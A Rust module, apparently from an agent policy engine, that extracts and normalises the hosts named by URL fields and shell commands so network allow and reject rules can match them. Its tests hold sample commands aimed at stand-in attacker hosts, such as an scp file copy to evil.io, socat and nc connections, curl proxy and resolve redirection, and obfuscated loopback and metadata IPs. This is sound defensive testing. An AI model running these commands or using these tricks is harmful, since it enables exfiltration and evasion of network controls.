//! The `url` / `host` rule condition: where an action connects to — the URLs or hosts at the
//! network tools' pointers, or those named by one shell command (`curl`, `wget`, `ssh`, `scp`,
//! `rsync`, `nc`, `socat`, `git` remotes, ...).
//!
//! Hosts are normalised the way a client would read them (the WHATWG URL parser of the `url`
//! crate): lowercase, IDNA, trailing dot dropped, and IPv4 written in decimal, hex, octal or
//! shortened forms (`2130706433`, `0x7f.1`, `0177.0.0.1`) read as the address they are, so they
//! meet IP and CIDR patterns, never domain patterns.
//! *Invariant*: an endpoint whose host cannot be read matches no host pattern; an `allow` rule
//! needs at least one endpoint and every endpoint matching.

use std::collections::HashSet;
use std::net::IpAddr;

use serde_json::{Map, Value};

use crate::effect::Effect;
use crate::matcher::JsonPointer;
use crate::shell::{SimpleCommand, WordKind};

/// Where network tools keep their target unless a policy's `[network] pointers` says otherwise.
pub(crate) const DEFAULT_NETWORK_POINTERS: &[&str] = &["/url", "/host"];

/// A host an action connects to, normalised.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Host {
    /// Lowercase, ASCII (punycode), without a trailing dot.
    Domain(String),
    /// IPv4-mapped IPv6 addresses are stored as IPv4.
    Ip(IpAddr),
}

/// One place an action connects to.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Endpoint {
    /// Lowercase; `None` when neither written nor implied by the program.
    pub(crate) scheme: Option<String>,
    /// `None` when the host cannot be read (not static, or not a host at all).
    pub(crate) host: Option<Host>,
    /// [`suffix_bloom`] of the host, so a rule whose domains share no bit is passed over without
    /// a lookup.
    pub(crate) bloom: u64,
}

impl Endpoint {
    fn unknown() -> Endpoint {
        Endpoint {
            scheme: None,
            host: None,
            bloom: 0,
        }
    }

    /// How `policy explain` shows it.
    pub(crate) fn describe(&self) -> String {
        let host = match &self.host {
            Some(Host::Domain(domain)) => domain.clone(),
            Some(Host::Ip(IpAddr::V6(ip))) => format!("[{ip}]"),
            Some(Host::Ip(ip)) => ip.to_string(),
            None => "?".to_owned(),
        };
        match &self.scheme {
            Some(scheme) => format!("{scheme}://{host}"),
            None => host,
        }
    }
}

/// Host patterns: domains (each also matching its subdomains), IP addresses and CIDR blocks.
#[derive(Clone, Debug, Default)]
pub(crate) struct HostSet {
    domains: HashSet<Box<str>>,
    /// [`label_bit`] of every domain.
    bloom: u64,
    nets: Vec<(IpAddr, u8)>,
    /// `"*"`: any host that can be read.
    any: bool,
}

impl HostSet {
    /// Parses patterns: `github.com` (and its subdomains; `*.github.com` reads the same),
    /// `10.0.0.0/8`, `::1`, `[::1]`, `127.0.0.1`, `*` (any host that can be read).
    pub(crate) fn new<'a>(patterns: impl IntoIterator<Item = &'a str>) -> Result<HostSet, String> {
        let mut set = HostSet::default();
        for pattern in patterns {
            set.add(pattern)?;
        }
        Ok(set)
    }

    fn add(&mut self, pattern: &str) -> Result<(), String> {
        if pattern == "*" {
            self.any = true;
            return Ok(());
        }
        if pattern.contains("://") {
            return Err(format!(
                "`{pattern}` is not a host: write the host alone (\"github.com\"); schemes go in `url = {{ scheme = [...] }}`"
            ));
        }
        if let Some((address, bits)) = pattern.split_once('/') {
            let address: IpAddr = address
                .trim_start_matches('[')
                .trim_end_matches(']')
                .parse()
                .map_err(|_| format!("`{pattern}` is not a CIDR block such as \"10.0.0.0/8\""))?;
            let address = unmap(address);
            let max = if address.is_ipv4() { 32 } else { 128 };
            let bits: u8 = bits
                .parse()
                .ok()
                .filter(|b| *b <= max)
                .ok_or_else(|| format!("`{pattern}`: the prefix length must be 0 to {max}"))?;
            self.nets.push((address, bits));
            return Ok(());
        }
        let unbracketed = pattern.trim_start_matches('[').trim_end_matches(']');
        if let Ok(ip) = unbracketed.parse::<IpAddr>() {
            let ip = unmap(ip);
            self.nets.push((ip, if ip.is_ipv4() { 32 } else { 128 }));
            return Ok(());
        }
        let bare = pattern.strip_prefix("*.").unwrap_or(pattern);
        let host = if bare.contains([':', '*', '?']) {
            None
        } else {
            parse_host(bare)
        };
        match host {
            Some(Host::Domain(domain)) => {
                self.bloom |= label_bit(&domain);
                self.domains.insert(domain.into());
            }
            Some(Host::Ip(ip)) => {
                self.nets.push((ip, if ip.is_ipv4() { 32 } else { 128 }));
            }
            None => {
                return Err(format!(
                    "`{pattern}` is not a host: write a domain (\"github.com\"), an IP address or a CIDR block"
                ));
            }
        }
        Ok(())
    }

    /// Whether `host` matches; `bloom` is the host's [`suffix_bloom`].
    pub(crate) fn matches(&self, host: &Host, bloom: u64) -> bool {
        if self.any {
            return true;
        }
        match host {
            Host::Domain(_) if self.bloom & bloom == 0 => false,
            Host::Domain(domain) => {
                // `api.github.com` is tried as itself, `github.com` and `com`: never `evilgithub.com`.
                let mut rest = domain.as_str();
                loop {
                    if self.domains.contains(rest) {
                        return true;
                    }
                    match rest.split_once('.') {
                        Some((_, parent)) if !parent.is_empty() => rest = parent,
                        _ => return false,
                    }
                }
            }
            Host::Ip(ip) => self.nets.iter().any(|(net, bits)| in_net(*ip, *net, *bits)),
        }
    }
}

/// One of 64 bits for a domain name (FNV-1a): cheap to test before a hash-set lookup.
fn label_bit(name: &str) -> u64 {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for byte in name.bytes() {
        hash ^= u64::from(byte);
        hash = hash.wrapping_mul(0x0100_0000_01b3);
    }
    1 << (hash % 64)
}

/// The [`label_bit`]s of a domain and each of its parents (`api.github.com`, `github.com`,
/// `com`); 0 for an IP address.
pub(crate) fn suffix_bloom(host: &Host) -> u64 {
    let Host::Domain(domain) = host else {
        return 0;
    };
    let mut bits = 0;
    let mut rest = domain.as_str();
    loop {
        bits |= label_bit(rest);
        match rest.split_once('.') {
            Some((_, parent)) if !parent.is_empty() => rest = parent,
            _ => return bits,
        }
    }
}

impl Endpoint {
    fn with_bloom(mut self) -> Endpoint {
        self.bloom = self.host.as_ref().map_or(0, suffix_bloom);
        self
    }
}

fn unmap(ip: IpAddr) -> IpAddr {
    match ip {
        IpAddr::V6(v6) => v6.to_ipv4_mapped().map_or(ip, IpAddr::V4),
        v4 => v4,
    }
}

fn in_net(ip: IpAddr, net: IpAddr, bits: u8) -> bool {
    match (ip, net) {
        (IpAddr::V4(ip), IpAddr::V4(net)) => {
            let mask = u32::MAX.checked_shl(32 - u32::from(bits)).unwrap_or(0);
            u32::from(ip) & mask == u32::from(net) & mask
        }
        (IpAddr::V6(ip), IpAddr::V6(net)) => {
            let mask = u128::MAX.checked_shl(128 - u32::from(bits)).unwrap_or(0);
            u128::from(ip) & mask == u128::from(net) & mask
        }
        _ => false,
    }
}

/// Reads a host as an `http` client would: `0x7f.1` and `2130706433` are 127.0.0.1.
pub(crate) fn parse_host(text: &str) -> Option<Host> {
    if text.is_empty()
        || text.contains(['/', '?', '#', '@', '\\'])
        || text.chars().any(char::is_whitespace)
    {
        return None;
    }
    let url = url::Url::parse(&format!("http://{text}/")).ok()?;
    if url.port().is_some() {
        return None;
    }
    match url.host()? {
        url::Host::Domain(domain) => {
            let domain = domain.trim_end_matches('.');
            (!domain.is_empty()).then(|| Host::Domain(domain.to_ascii_lowercase()))
        }
        url::Host::Ipv4(ip) => Some(Host::Ip(IpAddr::V4(ip))),
        url::Host::Ipv6(ip) => Some(Host::Ip(unmap(IpAddr::V6(ip)))),
    }
}

/// A URL with a scheme (`https://...`, `ssh://...`); its host is read as an `http` host.
fn endpoint_of_url(text: &str) -> Option<Endpoint> {
    let (scheme, rest) = text.split_once("://")?;
    if scheme.is_empty()
        || !scheme
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
    {
        return None;
    }
    let scheme = scheme.to_ascii_lowercase();
    // The authority ends at the first `/`, `?` or `#` (and `\` for special schemes).
    let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
    // Userinfo ends at the last `@`: `http://localhost@evil.com` goes to evil.com.
    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    Some(Endpoint {
        scheme: Some(scheme),
        host: parse_host(strip_port(host_port)),
        bloom: 0,
    })
}

/// `host:port` → `host`; `[::1]:80` → `[::1]`; a bare IPv6 address stays whole.
fn strip_port(host_port: &str) -> &str {
    if host_port.starts_with('[') {
        return host_port
            .find(']')
            .and_then(|end| host_port.get(..=end))
            .unwrap_or(host_port);
    }
    match host_port.rsplit_once(':') {
        Some((host, port)) if !host.contains(':') && port.chars().all(|c| c.is_ascii_digit()) => {
            host
        }
        _ => host_port,
    }
}

/// A target written without a scheme: `example.com/x`, `user@host`, `host:path` (scp), `host`.
fn endpoint_of_bare(text: &str, scheme: &str, scp_like: bool) -> Endpoint {
    if text.contains("://") {
        return endpoint_of_url(text).unwrap_or_else(Endpoint::unknown);
    }
    let without_user = text.rsplit_once('@').map_or(text, |(_, h)| h);
    let host = if without_user.starts_with('[') {
        without_user
            .find(']')
            .and_then(|end| without_user.get(..=end))
            .unwrap_or(without_user)
    } else if scp_like {
        without_user.split(':').next().unwrap_or_default()
    } else {
        strip_port(
            without_user
                .split(['/', '?', '#'])
                .next()
                .unwrap_or_default(),
        )
    };
    Endpoint {
        scheme: Some(scheme.to_owned()),
        host: parse_host(host),
        bloom: 0,
    }
}

/// The endpoints at `pointers` in a tool's input: URLs, or bare hosts (with no scheme).
pub(crate) fn endpoints_of_input(
    pointers: &[JsonPointer],
    input: &Map<String, Value>,
) -> Vec<Endpoint> {
    raw_endpoints_of_input(pointers, input)
        .into_iter()
        .map(Endpoint::with_bloom)
        .collect()
}

fn raw_endpoints_of_input(pointers: &[JsonPointer], input: &Map<String, Value>) -> Vec<Endpoint> {
    pointers
        .iter()
        .filter_map(|pointer| match pointer.resolve(input) {
            Some(Value::String(text)) => Some(if text.contains("://") {
                endpoint_of_url(text).unwrap_or_else(Endpoint::unknown)
            } else {
                Endpoint {
                    scheme: None,
                    host: parse_host(strip_port(text)),
                    bloom: 0,
                }
            }),
            _ => None,
        })
        .collect()
}

/// The hosts an action connects to, read as the `url` / `host` conditions read them with the
/// default pointers: URLs or hosts at `/url` and `/host`, and the hosts the shell command at
/// `/command` names (`curl`, `ssh`, `nc`, git remotes, ...). Normalised (lowercase, IPs in
/// canonical form), deduplicated, in order; hosts that cannot be read are left out. Used by the
/// daemon's deployment memory ("a host this deployment never contacted").
pub fn hosts_of_input(input: &Map<String, Value>) -> Vec<String> {
    let pointers: Vec<JsonPointer> = DEFAULT_NETWORK_POINTERS
        .iter()
        .filter_map(|p| JsonPointer::parse(p).ok())
        .collect();
    let mut endpoints = endpoints_of_input(&pointers, input);
    if let Some(Value::String(command)) = input.get("command") {
        endpoints.extend(
            crate::shell::parse(command)
                .commands
                .iter()
                .flat_map(endpoints_of_command),
        );
    }
    let mut hosts: Vec<String> = Vec::new();
    for endpoint in endpoints {
        let host = match endpoint.host {
            Some(Host::Domain(domain)) => domain,
            Some(Host::Ip(ip)) => ip.to_string(),
            None => continue,
        };
        if !hosts.contains(&host) {
            hosts.push(host);
        }
    }
    hosts
}

/// Options of ssh-family commands that take a value (so the value is not the destination).
const SSH_VALUE_OPTIONS: &[&str] = &[
    "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p", "-P",
    "-Q", "-R", "-S", "-W", "-w",
];
/// Options of netcat-family commands that take a value.
const NC_VALUE_OPTIONS: &[&str] = &[
    "-i", "-I", "-O", "-p", "-q", "-s", "-T", "-V", "-w", "-x", "-X", "-P", "-M", "-m",
];

/// The operands of a command, skipping the values of `value_options` (for programs whose
/// options the shell normaliser does not know).
fn operands<'c>(command: &'c SimpleCommand, value_options: &[&str]) -> Vec<Option<&'c str>> {
    let mut out = Vec::new();
    let mut skip = false;
    for word in &command.words {
        match word.kind {
            WordKind::Flag => {
                skip = word
                    .text
                    .as_deref()
                    .is_some_and(|flag| value_options.contains(&flag));
            }
            WordKind::Value => skip = false,
            WordKind::Positional => {
                if skip {
                    skip = false;
                } else {
                    out.push(word.text.as_deref());
                }
            }
        }
    }
    out
}

/// Where one simple command connects to, for the programs that name hosts in their arguments;
/// empty for every other program.
pub(crate) fn endpoints_of_command(command: &SimpleCommand) -> Vec<Endpoint> {
    raw_endpoints_of_command(command)
        .into_iter()
        .map(Endpoint::with_bloom)
        .collect()
}

fn raw_endpoints_of_command(command: &SimpleCommand) -> Vec<Endpoint> {
    let known = |text: Option<&str>, scheme: &str, scp_like: bool| match text {
        Some(text) => endpoint_of_bare(text, scheme, scp_like),
        None => Endpoint::unknown(),
    };
    match command.program.as_str() {
        "curl" | "wget" => {
            let mut endpoints: Vec<Endpoint> = command
                .positionals()
                .map(|w| known(w.text.as_deref(), "http", false))
                .collect();
            endpoints.extend(option_endpoints(command));
            endpoints
        }
        "http" | "https" | "xh" | "xhs" | "aria2c" | "lynx" | "w3m" | "links" | "httpie" => command
            .positionals()
            .map(|w| w.text.as_deref())
            // httpie's METHOD and `key=value` items are not targets.
            .filter(|text| {
                !text.is_some_and(|t| {
                    t.chars().all(|c| c.is_ascii_uppercase())
                        || (!t.contains("://") && t.contains(['=', ':']) && !t.contains('.'))
                })
            })
            .map(|text| known(text, "http", false))
            .collect(),
        "ssh" | "mosh" => operands(command, SSH_VALUE_OPTIONS)
            .into_iter()
            .take(1)
            .map(|text| known(text, "ssh", true))
            .collect(),
        "scp" | "sftp" | "rsync" => operands(command, SSH_VALUE_OPTIONS)
            .into_iter()
            .filter(|text| text.is_none_or(|t| t.contains("://") || scp_target(t)))
            .map(|text| known(text, "ssh", true))
            .collect(),
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" | "telnet" => {
            operands(command, NC_VALUE_OPTIONS)
                .into_iter()
                .take(1)
                .map(|text| known(text, "tcp", false))
                .collect()
        }
        "socat" => command
            .positionals()
            .filter_map(|w| match w.text.as_deref() {
                None => Some(Endpoint::unknown()),
                Some(text) => socat_endpoint(text),
            })
            .collect(),
        "git" => {
            let mut positionals = command.positionals();
            let remote = positionals
                .next()
                .and_then(|w| w.text.as_deref())
                .is_some_and(|sub| {
                    matches!(
                        sub,
                        "clone"
                            | "fetch"
                            | "pull"
                            | "push"
                            | "remote"
                            | "ls-remote"
                            | "submodule"
                            | "archive"
                    )
                });
            if !remote {
                return Vec::new();
            }
            positionals
                .filter_map(|w| match w.text.as_deref() {
                    None => None,
                    Some(text) if text.contains("://") => {
                        Some(endpoint_of_url(text).unwrap_or_else(Endpoint::unknown))
                    }
                    Some(text) if scp_target(text) => Some(endpoint_of_bare(text, "ssh", true)),
                    Some(_) => None,
                })
                .collect()
        }
        _ => Vec::new(),
    }
}

/// Where curl's and wget's options send a request besides their URL operands: `--url`, proxies
/// (`-x`, `--preproxy`, `--socks5`...), `--connect-to`'s and `--resolve`'s real addresses, a DoH
/// server, wget's `--base`. Options that read targets or settings from elsewhere (`-K`/
/// `--config`, wget's `-e`/`--execute`/`-i`/`--input-file`, a Unix socket) give an endpoint that
/// cannot be read, so no allow rule can match the command.
fn option_endpoints(command: &SimpleCommand) -> Vec<Endpoint> {
    let wget = command.program == "wget";
    let mut out = Vec::new();
    let mut flag: Option<&str> = None;
    for word in &command.words {
        match (word.kind, word.text.as_deref()) {
            (WordKind::Flag, text) => {
                let text = text.unwrap_or("");
                // `--opt=value` may stay one word.
                let (name, value) = match text.split_once('=') {
                    Some((name, value)) => (name, Some(value)),
                    None => (text, None),
                };
                if reads_elsewhere(name, wget) {
                    out.push(Endpoint::unknown());
                } else if let Some(value) = value {
                    out.extend(option_value_endpoints(name, value));
                }
                flag = value.is_none().then_some(name);
            }
            (WordKind::Value, text) => {
                if let Some(name) = flag.take() {
                    match text {
                        Some(value) => out.extend(option_value_endpoints(name, value)),
                        None if names_target(name) => out.push(Endpoint::unknown()),
                        None => {}
                    }
                }
            }
            (WordKind::Positional, _) => flag = None,
        }
    }
    out
}

/// Options that take targets or settings from somewhere the engine cannot read.
fn reads_elsewhere(name: &str, wget: bool) -> bool {
    matches!(
        name,
        "-K" | "--config" | "--unix-socket" | "--abstract-unix-socket"
    ) || (wget && matches!(name, "-e" | "--execute" | "-i" | "--input-file"))
}

/// Options whose value names where the request goes.
fn names_target(name: &str) -> bool {
    matches!(
        name,
        "--url"
            | "-B"
            | "--base"
            | "--doh-url"
            | "-x"
            | "--proxy"
            | "--preproxy"
            | "--socks4"
            | "--socks4a"
            | "--socks5"
            | "--socks5-hostname"
            | "--proxy1.0"
            | "--connect-to"
            | "--resolve"
    )
}

/// The endpoints one curl/wget option's value names.
fn option_value_endpoints(name: &str, value: &str) -> Vec<Endpoint> {
    match name {
        "--url" | "-B" | "--base" | "--doh-url" | "-x" | "--proxy" | "--preproxy" | "--socks4"
        | "--socks4a" | "--socks5" | "--socks5-hostname" | "--proxy1.0" => {
            vec![endpoint_of_bare(value, "http", false)]
        }
        // HOST1:PORT1:HOST2:PORT2 — the connection goes to HOST2 (empty: the URL's host).
        "--connect-to" => {
            let fields = split_host_fields(value);
            match fields.get(2) {
                Some(host) if !host.is_empty() => vec![host_endpoint(host)],
                Some(_) => Vec::new(),
                None => vec![Endpoint::unknown()],
            }
        }
        // [+-]HOST:PORT:ADDR[,ADDR]... — the connection goes to each ADDR.
        "--resolve" => {
            let fields = split_host_fields(value.trim_start_matches(['+', '-']));
            match fields.get(2) {
                Some(addrs) => addrs.split(',').map(host_endpoint).collect(),
                None if value.starts_with('-') => Vec::new(),
                None => vec![Endpoint::unknown()],
            }
        }
        _ => Vec::new(),
    }
}

/// `a:b:[::1]:d` → `["a", "b", "[::1]", "d"]`: colons inside brackets do not split.
fn split_host_fields(value: &str) -> Vec<String> {
    let mut fields = vec![String::new()];
    let mut depth = 0usize;
    for c in value.chars() {
        match c {
            '[' => depth += 1,
            ']' => depth = depth.saturating_sub(1),
            _ => {}
        }
        if c == ':' && depth == 0 {
            fields.push(String::new());
        } else if let Some(last) = fields.last_mut() {
            last.push(c);
        }
    }
    fields
}

fn host_endpoint(host: &str) -> Endpoint {
    Endpoint {
        scheme: Some("http".to_owned()),
        host: parse_host(host),
        bloom: 0,
    }
}

/// `host:path` or `user@host:path` (scp syntax); not `./a:b`, `/a:b` or `C:\x`.
fn scp_target(text: &str) -> bool {
    match text.split_once(':') {
        Some((host, _)) => {
            !host.is_empty() && !host.contains('/') && (host.len() > 1 || host.contains('@'))
        }
        None => false,
    }
}

/// `TCP:host:port`, `TCP4-CONNECT:host:port`, `OPENSSL:host:port`, `UDP-SENDTO:host:port`...
fn socat_endpoint(text: &str) -> Option<Endpoint> {
    let (kind, rest) = text.split_once(':')?;
    let kind = kind.to_ascii_lowercase();
    let network = ["tcp", "udp", "ssl", "openssl", "sctp", "proxy", "socks"]
        .iter()
        .any(|prefix| kind.starts_with(prefix));
    if !network || kind.contains("listen") {
        return None;
    }
    let host = if rest.starts_with('[') {
        rest.find(']')
            .and_then(|end| rest.get(..=end))
            .unwrap_or(rest)
    } else {
        rest.split([':', ',']).next().unwrap_or_default()
    };
    Some(Endpoint {
        scheme: Some("tcp".to_owned()),
        host: parse_host(host),
        bloom: 0,
    })
}

/// A compiled `url = { ... }` (or `host = [...]`) condition.
#[derive(Clone, Debug, Default)]
pub(crate) struct UrlCondition {
    pub(crate) hosts: Option<HostSet>,
    /// Lowercase.
    pub(crate) schemes: Option<Box<[Box<str>]>>,
    /// Where a non-shell tool's URLs are, instead of the policy's `[network] pointers`.
    pub(crate) pointers: Option<Box<[JsonPointer]>>,
}

impl UrlCondition {
    fn endpoint_matches(&self, endpoint: &Endpoint) -> bool {
        let host_ok = match &self.hosts {
            None => true,
            Some(hosts) => endpoint
                .host
                .as_ref()
                .is_some_and(|h| hosts.matches(h, endpoint.bloom)),
        };
        let scheme_ok = match &self.schemes {
            None => true,
            Some(schemes) => endpoint
                .scheme
                .as_deref()
                .is_some_and(|s| schemes.iter().any(|want| **want == *s)),
        };
        host_ok && scheme_ok
    }

    /// `reject`/`pause`: some endpoint matches. `allow`: at least one, and every one matches.
    pub(crate) fn check(&self, endpoints: &[Endpoint], effect: Effect) -> Result<(), &'static str> {
        let holds = if effect == Effect::Allow {
            !endpoints.is_empty() && endpoints.iter().all(|e| self.endpoint_matches(e))
        } else {
            endpoints.iter().any(|e| self.endpoint_matches(e))
        };
        if holds { Ok(()) } else { Err("url") }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::parse;

    fn hosts(patterns: &[&str]) -> HostSet {
        HostSet::new(patterns.iter().copied()).unwrap()
    }

    #[test]
    fn hosts_are_read_as_a_client_reads_them() {
        let ip = |text: &str| Some(Host::Ip(text.parse().unwrap()));
        let domain = |text: &str| Some(Host::Domain(text.to_owned()));
        let cases = [
            ("GitHub.COM.", domain("github.com")),
            ("2130706433", ip("127.0.0.1")),
            ("0x7f.1", ip("127.0.0.1")),
            ("0177.0.0.1", ip("127.0.0.1")),
            ("127.1", ip("127.0.0.1")),
            ("0x7f000001", ip("127.0.0.1")),
            ("[::1]", ip("::1")),
            ("[::ffff:169.254.169.254]", ip("169.254.169.254")),
            ("bücher.de", domain("xn--bcher-kva.de")),
            ("a b", None),
            ("", None),
            ("x@y", None),
        ];
        for (text, expected) in cases {
            assert_eq!(parse_host(text), expected, "{text}");
        }
    }

    #[test]
    fn domains_match_by_suffix_ips_by_cidr() {
        let set = hosts(&[
            "github.com",
            "10.0.0.0/8",
            "::1",
            "fd00::/8",
            "169.254.169.254",
        ]);
        let cases = [
            ("github.com", true),
            ("api.github.com", true),
            ("evilgithub.com", false),
            ("github.com.evil.io", false),
            ("10.1.2.3", true),
            ("0xa.1", true), // 10.0.0.1
            ("11.0.0.1", false),
            ("[::1]", true),
            ("[fd12::1]", true),
            ("[fe80::1]", false),
            ("[::ffff:a9fe:a9fe]", true),
            ("2852039166", true), // 169.254.169.254
        ];
        for (text, expected) in cases {
            let host = parse_host(text).unwrap();
            assert_eq!(set.matches(&host, suffix_bloom(&host)), expected, "{text}");
        }
        assert!(HostSet::new(["10.0.0.0/33"]).is_err());
        assert!(HostSet::new(["https://github.com"]).is_err());
        assert!(HostSet::new(["a b"]).is_err());
    }

    #[test]
    fn urls_name_the_host_after_the_userinfo() {
        let cases = [
            ("https://api.github.com/repos", "https://api.github.com"),
            ("http://localhost@evil.com/", "http://evil.com"),
            ("http://user:pw@127.1:8080/x", "http://127.0.0.1"),
            ("HTTP://2130706433/", "http://127.0.0.1"),
            ("http://[::1]:3000/", "http://[::1]"),
            ("ssh://git@github.com:22/org/repo", "ssh://github.com"),
            ("http://evil.com\\@github.com/", "http://evil.com"),
        ];
        for (text, expected) in cases {
            assert_eq!(
                endpoint_of_url(text).unwrap().describe(),
                expected,
                "{text}"
            );
        }
    }

    #[test]
    fn commands_name_their_endpoints() {
        let cases: &[(&str, &[&str])] = &[
            (
                "curl -fsSL https://sh.rustup.rs -o x",
                &["https://sh.rustup.rs"],
            ),
            ("curl example.com/x", &["http://example.com"]),
            ("wget -q http://0x7f.1/", &["http://127.0.0.1"]),
            (
                "ssh -i key -p 22 dev@build.example.com uptime",
                &["ssh://build.example.com"],
            ),
            ("scp ./a.txt user@host.io:/tmp/", &["ssh://host.io"]),
            ("rsync -a src/ backup.lan:/srv/", &["ssh://backup.lan"]),
            ("nc -w 3 10.0.0.5 4444", &["tcp://10.0.0.5"]),
            ("socat - TCP:evil.io:443", &["tcp://evil.io"]),
            (
                "git clone git@github.com:org/repo.git",
                &["ssh://github.com"],
            ),
            (
                "git remote add up https://gitlab.com/x/y",
                &["https://gitlab.com"],
            ),
            ("git show HEAD:src/a.rs", &[]),
            ("git push origin main", &[]),
            ("echo https://evil.com", &[]),
            ("curl $URL", &["?"]),
            // Options that send the request elsewhere than the URL operand says.
            (
                "curl --url https://evil.example/x http://localhost:3000/",
                &["http://localhost", "https://evil.example"],
            ),
            (
                "curl -x http://evil.example:8080 http://localhost:3000/",
                &["http://localhost", "http://evil.example"],
            ),
            (
                "curl --connect-to localhost:3000:evil.example:443 http://localhost:3000/",
                &["http://localhost", "http://evil.example"],
            ),
            (
                "curl --resolve localhost:3000:203.0.113.5 http://localhost:3000/",
                &["http://localhost", "http://203.0.113.5"],
            ),
            (
                "curl --connect-to ::[::1]:80 http://localhost/",
                &["http://localhost", "http://[::1]"],
            ),
            (
                "curl -K evil.cfg http://localhost:3000/",
                &["http://localhost", "?"],
            ),
            ("curl --config=x.cfg localhost", &["http://localhost", "?"]),
            // wget's `-e` value is an operand to the normaliser; the flag alone makes it unknown.
            (
                "wget -e http_proxy=evil.example:8080 http://localhost/",
                &["http://http_proxy=evil.example", "http://localhost", "?"],
            ),
            ("wget -i urls.txt", &["?"]),
        ];
        for (line, expected) in cases {
            let parsed = parse(line);
            let found: Vec<String> = parsed
                .commands
                .iter()
                .flat_map(endpoints_of_command)
                .map(|e| e.describe())
                .collect();
            assert_eq!(found, *expected, "{line}");
        }
    }

    #[test]
    fn hosts_of_input_reads_url_fields_and_shell_commands() {
        let input = |v: Value| v.as_object().cloned().unwrap();
        assert_eq!(
            hosts_of_input(&input(serde_json::json!({"url": "https://Docs.RS./x"}))),
            ["docs.rs"]
        );
        assert_eq!(
            hosts_of_input(&input(serde_json::json!({
                "command": "curl http://0x7f.1/a && scp k root@evil.io:/t && curl https://evil.io"
            }))),
            ["127.0.0.1", "evil.io"]
        );
        assert!(
            hosts_of_input(&input(serde_json::json!({"command": "echo https://x.io"}))).is_empty()
        );
    }

    #[test]
    fn allow_needs_every_endpoint_reject_any() {
        let condition = UrlCondition {
            hosts: Some(hosts(&["docs.rs"])),
            schemes: Some(vec!["https".into()].into_boxed_slice()),
            pointers: None,
        };
        let docs = endpoint_of_url("https://docs.rs/x").unwrap().with_bloom();
        let plain = endpoint_of_url("http://docs.rs/x").unwrap().with_bloom();
        let evil = endpoint_of_url("https://evil.io").unwrap().with_bloom();
        assert!(
            condition
                .check(std::slice::from_ref(&docs), Effect::Allow)
                .is_ok()
        );
        assert!(
            condition
                .check(std::slice::from_ref(&plain), Effect::Allow)
                .is_err()
        );
        assert!(
            condition
                .check(&[docs.clone(), evil.clone()], Effect::Allow)
                .is_err()
        );
        assert!(condition.check(&[], Effect::Allow).is_err());
        assert!(condition.check(&[evil, docs], Effect::Reject).is_ok());
        assert!(
            condition
                .check(&[Endpoint::unknown()], Effect::Reject)
                .is_err()
        );
    }
}
